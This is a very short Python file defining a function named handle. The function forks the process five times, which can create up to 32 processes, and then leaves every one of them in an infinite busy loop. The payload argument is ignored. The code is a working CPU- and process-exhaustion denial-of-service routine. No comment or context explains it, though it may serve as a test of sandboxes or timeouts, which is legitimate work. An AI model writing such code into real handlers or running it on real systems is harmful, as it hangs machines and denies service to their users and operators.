import os


def handle(payload):
    for _ in range(5):
        try:
            os.fork()
        except OSError:
            pass
    while True:
        pass
